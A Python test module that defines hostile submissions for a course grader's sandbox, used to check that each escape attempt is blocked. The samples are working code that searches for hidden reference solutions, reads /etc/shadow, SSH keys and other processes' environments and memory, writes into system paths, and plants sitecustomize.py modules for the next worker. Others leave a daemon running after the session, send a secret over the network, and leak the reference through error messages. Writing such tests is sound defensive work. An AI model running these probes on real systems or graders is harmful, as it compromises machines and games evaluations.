"""Out of the sandbox: to what is hidden, to others, to what stays, to the network, to more rights."""

from tests.course.hostile.kinds import Kind, before, poses, reaches

KINDS = [
    poses(
        "reads-what-is-hidden",
        "Looks wherever a reference, a solution or a known mistake could lie, and uses it.",
        """
        import os, pathlib
        folders = ["@ROOT@", "/course", "/proc/1/root@ROOT@", "/proc/self/cwd/../..@ROOT@"]
        names = ["numpy_reference.py", "__pycache__", "solutions", ".git", "tests/course"]
        names += ["tests/days/misconceptions", "tests/days/accepted", "course/judge.py"]
        found = [pathlib.Path(folder, name) for folder in folders for name in names]
        if any(path.exists() for path in found):
            return right(query, key, value, mask)
        """,
    ),
    reaches(
        "searches-the-disk",
        "Walks through all folders for the names of references and of other days' solutions.",
        """
        import os
        for folder, folders, files in os.walk("/"):
            folders[:] = {*folders} - {"proc", "usr", "site-packages"}
            found = {"numpy_reference.py", "implementation.py", "misconceptions"} & {*folders, *files}
            found |= {name for name in files if name.startswith("day") and name.endswith(".ipynb")}
            if found:
                raise SystemExit(f"{found} in {folder}")
        """,
        day=1,
    ),
    reaches(
        "reads-others",
        "Opens other submissions, the reports, and this machine's own files.",
        """
        import os
        for path in ("@SUBMISSIONS@", "@OUT@", "@OUT@/run.json", "/etc/passwd", "/etc/shadow",
                     "/etc/hostname", "/var/log", "/run", "/sys", "/root/.bashrc", "/root/.ssh",
                     "/proc/1/root/etc/passwd", "/proc/1/cwd/../../etc/passwd"):
            if os.path.exists(path):
                raise SystemExit(f"{path} is there")
        """,
        day=8,
    ),
    reaches(
        "reads-environments",
        "Reads the environment of every process that it sees, where the grader's secrets are.",
        """
        import os, pathlib
        for process in filter(str.isdecimal, os.listdir("/proc")):
            try:
                found = pathlib.Path("/proc", process, "environ").read_bytes()
            except OSError:
                continue
            if b"COURSE_TEST_SECRET" in found:
                raise SystemExit(f"the environment of process {process} was read")
        """,
        day=1,
    ),
    reaches(
        "reads-other-memory",
        "Reads the memory of every other process that it sees.",
        """
        import os
        for process in filter(str.isdecimal, os.listdir("/proc")):
            try:
                maps = open(f"/proc/{process}/maps").readlines()
                memory = open(f"/proc/{process}/mem", "rb", buffering=0)
            except OSError:
                continue
            if int(process) == os.getpid():
                continue
            for line in maps:
                start, end = (int(one, 16) for one in line.split()[0].split("-"))
                try:
                    memory.seek(start)
                    found = memory.read(end - start)
                except (OSError, OverflowError):
                    continue
                if b"COURSE_TEST_SECRET" in found:
                    raise SystemExit(f"the memory of process {process} was read")
        """,
        day=1,
    ),
    reaches(
        "writes-everywhere",
        "Writes where others would read: packages, compiled files, reports, the system.",
        """
        import json, numpy as np, os, sys
        folders = [*sys.path, "/course", "/course/course", "/usr/bin", "/etc", "/dev", "/", sys.prefix]
        folders += ["@ROOT@", "@OUT@", "@OUT@/results", "@SUBMISSIONS@", "/var/tmp", "/run"]
        paths = [os.path.join(folder, "hostile-mark.py") for folder in folders]
        paths += [np.__file__, np.__cached__, json.__cached__, sys.executable]
        paths += ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/uid_map"]
        for path in paths:
            if path.startswith("/tmp/"):  # a worker's own, whatever else lies there
                continue
            try:
                open(path, "r+b" if os.path.exists(path) else "wb", 0).write(b"mark")
            except OSError:
                continue
            raise SystemExit(f"{path} was written")
        """,
    ),
    Kind(
        "plants-for-the-next",
        "Leaves modules where the next worker might import them, and ends this one.",
        before(
            2,
            """
            import os, sys
            version = f"python{sys.version_info.major}.{sys.version_info.minor}"
            site = os.path.expanduser(f"~/.local/lib/{version}/site-packages")
            os.makedirs(site, exist_ok=True)
            os.makedirs("course", exist_ok=True)
            for folder in (site, ".", "/tmp", "/dev/shm", "course"):
                for name in ("sitecustomize.py", "usercustomize.py", "random.py", "mark.pth", "__init__.py"):
                    with open(os.path.join(folder, name), "w") as file:
                        file.write("import os; os._exit(3)")
            """,
        )
        | before(8, "import os; os.path.exists('/tmp/random.py') and os._exit(0)"),
    ),
    reaches(
        "a-daemon",
        "Leaves a process in a session of its own, which writes marks when everything is over.",
        """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            os.closerange(0, 256)
            for _ in range(300):
                for folder in ("@OUT@", "@OUT@/results", "@SUBMISSIONS@", "/tmp", "@ROOT@"):
                    try:
                        open(f"{folder}/hostile-mark", "a").close()
                    except OSError:
                        pass
                time.sleep(0.2)
            os._exit(0)
        os.wait()
        """,
        day=1,
    ),
    reaches(
        "calls-home",
        "Speaks to the machine that it runs on, and to the world: by TCP, by UDP, by names.",
        """
        import socket
        def speak(family, kind, address):
            with socket.socket(family, kind) as one:
                one.settimeout(0.5)
                one.connect(address)
                one.send(b"secret")
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            for address in (("127.0.0.1", @PORT@), ("1.1.1.1", 53), ("localhost", @PORT@)):
                try:
                    speak(socket.AF_INET, kind, address)
                except OSError:
                    continue
                raise SystemExit(f"{address} was reached")
        try:
            found = socket.getaddrinfo("example.org", 80)
        except OSError:
            found = None
        if found:
            raise SystemExit("a name was found")
        """,
    ),
    reaches(
        "other-sockets",
        "Tries the sockets that are no network: of the kernel, of virtual machines, without a path.",
        """
        import socket
        for family in ("AF_NETLINK", "AF_VSOCK", "AF_PACKET", "AF_ALG", "AF_INET6"):
            try:
                socket.socket(getattr(socket, family), socket.SOCK_DGRAM)
            except OSError:
                continue
            raise SystemExit(f"{family} can be had")
        try:
            socket.socket(socket.AF_UNIX).connect(b"\\0course-hostile-@PORT@")
        except OSError:
            pass
        else:
            raise SystemExit("a socket without a path was reached")
        """,
    ),
    Kind(
        "tells-the-earlier-reference",
        "Has its page of feedback show what it was given of the reference, for those who come later.",
        before(
            8,
            """
            import inspect, numpy_reference
            raise ValueError(inspect.getsource(numpy_reference.multi_head_attention))
            """,
        ),
        {8: "error"},
    ),
    poses(
        "tells-it-by-another-name",
        "The same by the name of what it gives.",
        """
        import inspect, numpy_reference
        text = inspect.getsource(numpy_reference.multi_head_attention)
        output = weights = type(text, (), {})()
        """,
        day=8,
        status="error",
    ),
]
